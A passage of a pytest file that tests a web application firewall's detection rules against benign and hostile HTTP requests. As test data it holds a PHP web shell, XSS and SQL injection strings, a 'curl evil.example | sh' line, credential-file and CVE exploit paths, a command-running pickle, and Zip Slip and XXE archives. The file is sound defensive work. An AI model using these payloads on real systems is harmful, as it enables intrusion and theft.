        '10.0.0.3 - - [10/Oct/2025:13:55:37 +0000] "GET /../../etc/passwd HTTP/1.1" 404 0\n'
    )
    shell = "GIF89a\n\n<?php\n@eval($_POST['x']);\n?>\n"
    page = "<html>\n<body>\n<img src=x onerror=alert(1)>\n</body>\n</html>\n"
    signed = (("x-amz-content-sha256", "UNSIGNED-PAYLOAD"), ("Content-Type", "text/plain"))
    presigned = "/backups/db.sql?X-Amz-Algorithm=AWS4-HMAC-SHA256&X-Amz-Signature=5d67"

    def stored(
        body: str, target: str = "/backups/db.sql", headers: tuple[tuple[str, str], ...] = signed
    ) -> set[str]:
        request = Request("PUT", target, headers, body.encode())
        return {hit.type.value for hit in engine.scan(request)}

    for body in (dump, log, dump * 3000):  # a long one's tail too
        assert stored(body) == set()
        assert stored(body, presigned, ()) == set()
        assert stored(body, "/c/db.sql", (("x-ms-blob-type", "BlockBlob"),)) == set()
        nextcloud = (("X-OC-Mtime", "1733400000"),)  # its clients' WebDAV put
        assert stored(body, "/remote.php/dav/files/ana/db.sql", nextcloud) == set()
    assert "rce" in stored(shell)
    assert "xss" in stored(page)
    assert "sqli" in stored("x' OR 1=1--")  # one line: a value sent as an object
    assert "sqli" in stored(dump, headers=(("Content-Type", "text/plain"),))
    # The key of an object put names a file stored: a dump's, a log's, a hidden file's. A
    # request with no object (a fetch, a scanner's probe with the header added) counts.
    for key in ("/backups/db.sql", "/logs/access-2025-10-10.log", "/repo/.DS_Store"):
        assert stored(log, key) == set()
        assert stored(log, key, ()) >= {"ptrav"}
        assert stored("", key) == {"ptrav"}


@pytest.mark.parametrize(
    ("method", "target"),
    [
        ("PROPFIND", "/remote.php/dav/files/ana/.config/"),
        ("MKCOL", "/remote.php/dav/files/ana/.ssh"),
        ("GET", "/remote.php/dav/files/ana/.ssh/id_rsa"),
        ("GET", "/remote.php/dav/files/ana/backups/db-2026.sql.gz"),
        ("GET", "/remote.php/webdav/logs/error.log"),
        ("PUT", "/remote.php/dav/uploads/ana/4f2a/00001"),
        ("MOVE", "/remote.php/dav/files/ana/.config/nvim/init.lua"),
    ],
)
def test_a_users_files_in_nextclouds_webdav_are_no_probe(
    engine: Engine, method: str, target: str
) -> None:
    """Nextcloud's and ownCloud's clients sync a home folder over WebDAV: its dotfiles,
    keys, backups and logs are the user's files there, listed, fetched, moved (to a
    `Destination` of the same folder) or stored by any method. A climb out of the folder
    counts, and so does the same name under any other path."""
    destination = "https://cloud.example.com/remote.php/dav/files/ana/.config/nvim/init.lua.bak"
    headers = (("Host", "cloud.example.com"), ("Destination", destination))
    assert engine.scan(Request(method, target, headers)) == []
    climbed = target.replace("/ana/", "/ana/../../../").replace("/webdav/", "/webdav/../../")
    assert {hit.type.value for hit in engine.scan(Request(method, climbed, headers))} == {"ptrav"}
    elsewhere = target.split("/ana/")[-1].split("/webdav/")[-1]
    if method != "PUT":
        assert "ptrav" in {hit.type.value for hit in engine.scan(Request("GET", f"/{elsewhere}"))}
    out = (("Destination", destination.replace("/ana/", "/ana/../../")),)
    assert "ptrav" in {hit.type.value for hit in engine.scan(Request("MOVE", target, out))}


def test_a_file_an_api_is_given_to_commit_or_deploy_counts_as_a_stored_file_does(
    engine: Engine,
) -> None:
    """A file put by a code host's API (GitHub's, Gitea's contents and blobs in base64, a
    gist's files, GitLab's repository files, a commit's actions, a CI configuration to
    lint, Hugging Face Hub's commit), or a Compose file Portainer deploys, is a file
    stored: a workflow's steps and a Compose file's commands are what it is made of. A
    web shell or markup counts, a one-line value counts, and so does the same content
    sent to any other API."""
    workflow = (
        "name: CI\non: [push]\njobs:\n  build:\n    runs-on: ubuntu-latest\n    steps:\n"
        "      - run: pytest -q; coverage xml\n"
        "      - run: curl -fsSL https://get.example.com/install.sh | bash -s -- -v 1.2\n"
    )
    compose = (
        "services:\n  worker:\n    image: app:1\n"
        '    command: sh -c "python manage.py migrate && celery -A app worker"\n'
        "    healthcheck:\n      test: curl -f http://localhost:8000/health || exit 1\n"
    )
    shell = "GIF89a\n\n<?php\n@eval($_POST['x']);\n?>\n"

    def put(target: str, body: dict[str, object]) -> set[str]:
        headers = (("Content-Type", "application/json"),)
        request = Request("PUT", target, headers, json.dumps(body).encode())
        return {hit.type.value for hit in engine.scan(request) if hit.type.value != "overlimit"}

    def b64(text: str) -> str:
        return base64.b64encode(text.encode()).decode()

    contents = "/repos/ana/shop/contents/.github/workflows/ci.yml"
    for target, body in (
        (contents, {"message": "ci", "content": b64(workflow)}),
        ("/api/v3/repos/ana/shop/git/blobs", {"content": b64(compose), "encoding": "base64"}),
        ("/api/v1/repos/ana/shop/contents/compose.yaml", {"content": b64(compose)}),
        ("/gists", {"files": {"ci.yml": {"content": workflow}}}),
        ("/api/v4/projects/7/repository/files/.gitlab-ci.yml", {"content": workflow}),
        ("/api/v4/projects/7/repository/commits", {"actions": [{"content": compose}]}),
        ("/api/v4/projects/7/ci/lint", {"content": workflow}),
        ("/api/stacks/create/standalone/string", {"Name": "app", "StackFileContent": compose}),
        ("/api/stacks/3", {"StackFileContent": compose, "Prune": False}),
    ):
        assert put(target, body) == set(), target
        assert put("/api/notes", body) >= {"rce"}
    # Hugging Face Hub's commit: lines of JSON, a file's content in base64.
    lines = (
        {"key": "header", "value": {"summary": "ci"}},
        {
            "key": "file",
            "value": {"path": "ci.yml", "content": b64(workflow), "encoding": "base64"},
        },
    )
    commit = "\n".join(json.dumps(line) for line in lines).encode()
    for target, kinds in (("/api/spaces/ana/demo/commit/main", set()), ("/api/notes", {"rce"})):
        request = Request("POST", target, (("Content-Type", "application/x-ndjson"),), commit)
        assert {hit.type.value for hit in engine.scan(request)} == kinds, target
    assert "rce" in put(contents, {"content": b64(shell)})
    assert "rce" in put(contents, {"content": b64("; curl evil.example | sh")})
    assert "xss" in put(contents, {"content": b64("<p>\n<img src=x onerror=alert(1)>\n</p>\n")})
    assert "rce" in put(contents, {"message": "; curl evil.example | sh\n\n", "content": "x"})


@pytest.mark.parametrize(
    "target",
    [
        "/repos/ana/shop/contents/.github/workflows/ci.yml",
        "/api/v1/repos/ana/shop/contents/.gitea/workflows/build.yaml",
        "/ana/shop/blob/main/.github/dependabot.yml",
        "/ana/shop/raw/branch/main/.env.example",
        "/ana/shop/tree/v1.2/db/schema.sql",
        "/group/sub/shop/-/blob/main/.gitlab-ci.yml",
        "/ana/shop/blob/main/config/database.yml",
        "/sites/default/files/report.pdf",
        "/api/v4/projects/7/repository/files/.gitlab-ci.yml/raw?ref=main",
        "/.netlify/functions/subscribe",
        "/.auth/login/aad/callback",
        "/.within.website/x/cmd/anubis/api/pass-challenge?response=9f1",
    ],
)
def test_a_forges_file_and_a_platforms_endpoint_are_no_hidden_file_probe(
    engine: Engine, target: str
) -> None:
    """Past a Git forge's ref, a path names a file of the repository (a hidden workflow,
    a schema's dump), not one of the site's; Netlify, Azure App Service, Anubis serve
    their own endpoints under a hidden directory at the root."""
    assert engine.scan(Request("GET", target, (("Host", "git.example.com"),))) == []


@pytest.mark.parametrize(
    "target",
    [
        "/ana/shop/blob/main/../../../.env",
        "/ana/shop/blob/main/x/.%2e/.%2e/.%2e/etc/passwd",
        "/.git/ana/blob/main/x",
        "/static/.env",
        "/x/.netlify/functions/a",
        "/.netlify/.git/config",
        "/backup.sql",
    ],
)
def test_a_climb_out_of_a_forges_file_or_a_hidden_path_elsewhere_counts(
    engine: Engine, target: str
) -> None:
    assert {hit.type.value for hit in engine.scan(Request("GET", target, ()))} == {"ptrav"}


@pytest.mark.parametrize(
    "target",
    [
        "/app/etc/env.php",
        "/shop/app/etc/local.xml",
        "/sites/default/settings.php",
        "/storage/logs/laravel-2024-01-01.log",
        "/config/master.key",
        "/config/database.yml",
        "/app/config/parameters.yml",
        "/actuator/heapdump",
        "/heapdump",
    ],
)
def test_an_applications_secrets_requested_by_path_count(engine: Engine, target: str) -> None:
    """Magento's, Drupal's, Laravel's, Rails' and Symfony's files of passwords and keys,
    and a Spring Boot application's heap dump, which no page links to: a scanner asks for
    them. (Its health and metrics are what monitoring asks for.)"""
    assert {hit.type.value for hit in engine.scan(Request("GET", target, ()))} == {"ptrav"}
    for scraped in ("/actuator/health", "/actuator/prometheus", "/blog/what-is-a-heapdump"):
        assert engine.scan(Request("GET", scraped, ())) == [], scraped


@pytest.mark.parametrize(
    "target",
    [
        "/app/rest/users/id:1/tokens/RPC2;.jsp",
        "/hax?jsp=/app/rest/users;.jsp",
        "/admin;.css",
        "/actuator/env;.js/",
        "/manager/html;%2ejsp",
    ],
)
def test_a_path_parameter_that_names_a_file_type_counts(engine: Engine, target: str) -> None:
    """TeamCity's authentication bypass (CVE-2024-27198) and Spring Security's or Shiro's:
    a filter lets `…;.jsp` or `…;.css` by for its extension, and the server routes the
    path without its parameter. (TeamCity's older bypass, `…/RPC2`, is a virtual patch's
    too.)"""
    found = {hit.type.value for hit in engine.scan(Request("GET", target, ()))}
    assert found - {"vpatch"} == {"ptrav"}


@pytest.mark.parametrize(
    "target",
    [
        "/shop;jsessionid=ABC123.node1/cart",
        "/products;sort=name.asc;page=2",
        "/docs;v=2.1/index.html",
        "/app/login.jsp",
        "/static/app.js?v=1;2",
    ],
)
def test_a_path_parameter_with_a_value_is_no_file_type(engine: Engine, target: str) -> None:
    assert engine.scan(Request("GET", target, (("Host", "shop.example.com"),))) == []


def test_a_letter_of_the_path_encoded_twice_counts(engine: Engine) -> None:
    """Cisco IOS XE's `/%2577ebui_wsma_HTTP` (CVE-2023-20198): its web server decoded the
    path twice, its filter once. UTF-8 encoded twice (a client's mistake), a percent sign
    before a word and a query's value encoded twice are no such path."""
    hits = engine.scan(Request("GET", "/%2577ebui_wsma_HTTP"))
    assert [(hit.type.value, hit.rule) for hit in hits] == [("ptrav", 4010)]
    for target in ("/search/caf%25C3%25A9", "/coupons/50%25off", "/x?next=%2577"):
        assert engine.scan(Request("GET", target)) == []


@pytest.mark.parametrize(
    ("target", "expected"),
    [
        ("/questions/tagged/.net-core", set()),
        ("/tags/.NET", set()),
        ("/docs/.net/api", set()),
        ("/tld/.io", set()),
        ("/.DS_Store", {4005}),
        ("/app/.env", {4005}),
        ("/.netrc", {4005}),
        ("/.hg/store", {4005}),
        ("/.gitlab-ci.yml", {4005}),
    ],
)
def test_a_name_that_starts_with_a_dot_is_a_hidden_file_unless_it_is_a_word(
    engine: Engine, target: str, expected: set[int]
) -> None:
    """A hidden file or directory asked for by path is a probe (rule 4005); .NET's name,
    a tag or a job page's (`/questions/tagged/.net-core`), and a registry's page of a
    top-level domain (`/tld/.io`) only start with a dot."""
    assert {hit.rule for hit in engine.scan(Request("GET", target))} == expected


@pytest.mark.parametrize(
    ("target", "expected"),
    [
        ("/./RestAPI/LogonCustomization", {"ptrav"}),  # ManageEngine's CVE-2021-40539
        ("/SAAS/t/_/;/auth/login/embeddedauthbroker/callback", {"ptrav"}),  # VMware's
        ("/a/%2e/admin", {"ptrav"}),
        ("/;/admin/index", {"ptrav"}),  # Shiro's CVE-2020-11989
        ("/.well-known/openid-configuration", set()),
        ("/files/..foo", set()),  # a name that opens with two dots
        ("/shop/cart.jsp;jsessionid=AB12", set()),
        ("/search?q=/./x", set()),  # in a value: a path a client resolves is no target's
    ],
)
def test_a_dot_segment_or_a_bare_parameter_in_the_target_counts(
    engine: Engine, target: str, expected: set[str]
) -> None:
    """Clients resolve `/./` before sending and send no `/;/`: a filter that matches the
    path as sent lets by what the server routes once it drops them."""
    assert {hit.type.value for hit in engine.scan(Request("GET", target))} == expected


def _cli_frame(operation: int, data: bytes) -> bytes:
    return struct.pack(">IB", len(data), operation) + data


def _cli_argument(text: str) -> bytes:
    return _cli_frame(0, struct.pack(">H", len(text.encode())) + text.encode())


def test_jenkins_cli_arguments_are_values(engine: Engine) -> None:
    """Jenkins' command line over HTTP frames its arguments in bytes; it reads `@file` in
    one as the file's lines and tells them back (CVE-2024-23897). Each argument is a point
    (`post.cli.1`); a command that names no file is no attack."""
    end = _cli_frame(2, b"\x00\x05UTF-8") + _cli_frame(3, b"")
    body = _cli_argument("connect-node") + _cli_argument("@/etc/passwd") + end
    hits = engine.scan(Request("POST", "/cli?remoting=false", (("Side", "upload"),), body))
    assert [(hit.type.value, hit.point) for hit in hits] == [("ptrav", "post.cli.1")]
    secret = _cli_argument("help") + _cli_argument("@/var/jenkins_home/secrets/master.key")
    assert {hit.type.value for hit in engine.scan(Request("POST", "/cli", (), secret + end))} == {
        "ptrav"
    }
    assert engine.scan(Request("POST", "/cli", (), _cli_argument("who-am-i") + end)) == []


class _Runs:
    """An object that pickles as a call of `os.system`, as a malicious pickle does."""

    def __reduce__(self) -> tuple[object, tuple[str]]:
        return (os.system, ("id",))


@pytest.mark.parametrize("protocol", [2, 3, 4, 5])
def test_a_binary_pickle_that_runs_a_command_counts(engine: Engine, protocol: int) -> None:
    """A pickle runs what its globals name when it is loaded (an ML model, a job's
    arguments): in binary, as a body or an upload, and inside a ZIP (PyTorch's `.pt`).
    A pickle of data (a set, whose global is `builtins.set`) is data."""
    octets = (("Content-Type", "application/octet-stream"),)
    evil = pickle.dumps(_Runs(), protocol=protocol)
    archive = io.BytesIO()
    with zipfile.ZipFile(archive, "w", zipfile.ZIP_STORED) as stored:
        stored.writestr("archive/data.pkl", evil)
    for body in (evil, archive.getvalue()):
        hits = engine.scan(Request("POST", "/api/models", octets, body))
        assert [(hit.type.value, hit.rule) for hit in hits] == [("rce", 3007)]
    data = pickle.dumps({1, 2, 3}, protocol=protocol)
    assert engine.scan(Request("POST", "/api/models", octets, data)) == []


def test_a_parts_content_keeps_its_own_last_line_break() -> None:
    """The line break before the next delimiter is the delimiter's, one of them: a part
    whose text ends in CRLF (a letter's header, SendGrid's `headers`) keeps it, and a
    lenient client's LF before the delimiter goes."""
    crlf = b'--B\r\nContent-Disposition: form-data; name="h"\r\n\r\nA: 1\r\nB: 2\r\n\r\n--B--\r\n'
    lf = b'--B\nContent-Disposition: form-data; name="h"\n\nA: 1\n--B--\n'
    for body, text in ((crlf, "A: 1\r\nB: 2\r\n"), (lf, "A: 1")):
        points = list(extract(Request("POST", "/", MULTIPART, body), Limits()))
        assert ("post.multipart.h.text", text) in points


def _zip(entries: dict[str, str], streamed: bool = False) -> bytes:
    """A deflated ZIP archive of `entries`, its sizes in descriptors when `streamed`."""
    archive = io.BytesIO()
    with zipfile.ZipFile(archive, "w", zipfile.ZIP_DEFLATED) as deflated:
        for name, content in entries.items():
            if streamed:
                with deflated.open(name, "w") as entry:
                    entry.write(content.encode())
            else:
                deflated.writestr(name, content)
    return archive.getvalue()


@pytest.mark.parametrize("streamed", [False, True])
def test_an_archives_entries_that_leave_its_directory_or_declare_entities_count(
    engine: Engine, streamed: bool
) -> None:
    """An uploaded archive an application extracts writes each entry where its name says:
    one that climbs out (Zip Slip) counts, as a body or as a part of any type. A DOCX's or
    an XLSX's XML parts, deflated, are parsed when one declares a DOCTYPE (XXE). The other
    names are a listing (a JAR's `META-INF/MANIFEST.MF`) and a plugin's PHP its code."""
    slip = _zip({"theme/style.css": "a{}", "../../../var/www/html/shell.php": "<b>x</b>"}, streamed)
    octets = (("Content-Type", "application/zip"),)
    hits = engine.scan(Request("POST", "/api/import", octets, slip))
    assert [(hit.type.value, hit.rule, hit.point) for hit in hits] == [
        ("ptrav", 4001, "post.zip.1.name")
    ]
    xxe = '<?xml version="1.0"?><!DOCTYPE d [<!ENTITY e SYSTEM "file:///etc/hostname">]><d>&e;</d>'
    docx = _zip({"[Content_Types].xml": "<Types/>", "word/document.xml": xxe}, streamed)
    media = "application/vnd.openxmlformats-officedocument.wordprocessingml.document"
    upload = _part("file", "", "report.docx", media).encode()
    body = upload.replace(b"\r\n\r\n\r\n", b"\r\n\r\n" + docx + b"\r\n") + b"--B--\r\n"
    hits = engine.scan(Request("POST", "/up", MULTIPART, body))
    assert [(hit.type.value, hit.point) for hit in hits] == [
        ("xxe", "post.multipart.file.zip.1.xml.@doctype")
    ]
    jar = {"META-INF/MANIFEST.MF": "Manifest-Version: 1.0", "javax/inject/Named.class": "x"}
    plugin = {"my-plugin/my-plugin.php": "<?php eval(base64_decode($_POST['x']));"}
    for entries in (jar, plugin, {"word/document.xml": "<d>SELECT * FROM users;</d>"}):
        archive = _zip(entries, streamed)
        assert engine.scan(Request("POST", "/api/import", octets, archive)) == []


def test_a_querys_name_that_loads_code_through_the_environment_counts(engine: Engine) -> None:
    """A CGI server hands the query over as the environment: Juniper's J-Web read PHP's
    configuration from where `PHPRC` said (CVE-2023-36845), GoAhead loaded `LD_PRELOAD`
    (CVE-2017-17562). A value that names one is a value, and so is a plain lower-case
    name, which no program reads."""
    hits = engine.scan(Request("POST", "/?PHPRC=/dev/fd/0"))
    assert [(hit.type.value, hit.rule) for hit in hits] == [("rce", 3039)]
    for target in ("/search?q=PHPRC", "/x?phprc=1"):
        assert engine.scan(Request("GET", target)) == []


def test_a_querys_name_that_is_a_long_option_is_an_argument_injected(engine: Engine) -> None:
    """PHP's register_argc_argv hands a script the query string as its command line: Craft
    CMS read its templates from where `--templatesPath` said (CVE-2024-56145). An option
    as a value is a value (a search for `--help`, a sort order)."""
    hits = engine.scan(Request("GET", "/?--templatesPath=ftp://evil.example/"))
    assert [(hit.type.value, hit.rule) for hit in hits] == [("rce", 3035)]
    for target in ("/search?q=--help", "/list?sort=--name&page=2"):
        assert engine.scan(Request("GET", target)) == []


def test_a_model_context_protocol_clients_file_uri_names_a_resource(engine: Engine) -> None:
    """A Model Context Protocol client names a server's resource by URI, a file's as
    `file:///…` (`resources/read`, `resources/subscribe`), and tells the server its roots
    so: the server's scheme, not a URL fetched. A sensitive path counts there, and so do
    another scheme, `file:` in a tool's arguments, and a body that is no JSON-RPC."""
    types = partial(_json_types, engine, path="/mcp")

    def call(method: str, params: dict[str, object]) -> dict[str, object]:
        return {"jsonrpc": "2.0", "id": 7, "method": method, "params": params}

    for method in ("resources/read", "resources/subscribe"):
        assert types(call(method, {"uri": "file:///workspace/src/app.py"})) == set()
    roots = [{"uri": "file:///home/ana/projects/shop", "name": "shop"}]
    assert types({"jsonrpc": "2.0", "id": 1, "result": {"roots": roots}}) == set()
    assert types(call("resources/read", {"uri": "file:///etc/passwd"})) == {"ptrav"}
    assert types(call("resources/read", {"uri": "gopher://127.0.0.1:6379/_INFO"})) == {"ssrf"}
    arguments = {"name": "fetch", "arguments": {"url": "file:///workspace/a.txt"}}
    assert types(call("tools/call", arguments)) == {"ssrf"}
    assert types({"method": "resources/read", "params": {"uri": "file:///a.txt"}}) == {"ssrf"}
    # A URI of no resource is what it was: a client call's URL in its span, the call's.
    call_span = {"trace_id": "4bf92f3577b34da6a3ce929d0e0e4736", "span_id": "b7ad6b7169203331"}
    call_span |= {"op": "http.client", "data": {"uri": "http://169.254.169.254/latest/"}}
    assert types({"type": "transaction", "spans": [call_span]}) == set()


def test_githubs_webhooks_record_what_ran_and_what_was_reviewed(engine: Engine) -> None:
    """A workflow job's webhook names its steps after the commands they ran when the
    workflow does not ("Run npm ci && npm test"), and a review comment's carries the diff
    it was left on: records of what ran and code shown. The steps' commands and the diff's
    every class but XSS are held where the event names itself (`X-GitHub-Event`); anywhere
    else, and in another field, they count. A push's lists of files changed name the
    repository's paths (GitLab's push hook's too)."""
    steps = [
        {"name": "Run npm ci && npm test -- --coverage", "status": "completed", "number": 3},
        {"name": 'Run echo "VERSION=$(git describe)" >> $GITHUB_ENV', "number": 4},
    ]
    job = {"action": "completed", "workflow_job": {"id": 1, "run_id": 2, "steps": steps}}
    hunk = '@@ -40,3 +40,3 @@\n-    cur.execute("SELECT * FROM t WHERE id = %s" % i)\n'
    review = {"action": "created", "comment": {"body": "Use a parameter.", "diff_hunk": hunk}}

    def delivered(event: str, body: dict[str, object]) -> set[str]:
        headers = (*JSON, ("X-GitHub-Event", event))
        request = Request("POST", "/hooks/github", headers, json.dumps(body).encode())
        return {hit.type.value for hit in engine.scan(request)}

    assert delivered("workflow_job", job) == set()
    assert delivered("pull_request_review_comment", review) == set()
    assert "rce" in delivered("push", job)
    assert "rce" in _json_types(engine, job)
    assert "sqli" in _json_types(engine, review)
    review["comment"] = {"body": "' OR 1=1--", "diff_hunk": hunk + "<script>alert(1)</script>"}
    assert delivered("pull_request_review_comment", review) == {"sqli", "xss"}
    # A push lists the repository's files its commits changed: a migration's dump-like name.
    files = {"added": ["migrations/0003_drop_legacy.sql", ".env"], "removed": ["www.zip"]}
    push = {"ref": "refs/heads/main", "commits": [{"id": "a1", "message": "x", **files}]}
    assert delivered("push", push) == set()
    gitlab = (*JSON, ("X-Gitlab-Event", "Push Hook"))
    request = Request("POST", "/hooks/gitlab", gitlab, json.dumps(push).encode())
    assert engine.scan(request) == []
    assert _json_types(engine, push) == {"ptrav"}
    push["commits"][0]["added"] = ["../../etc/passwd"]  # type: ignore[index]
    assert delivered("push", push) == {"ptrav"}  # no path git keeps: a forged push's
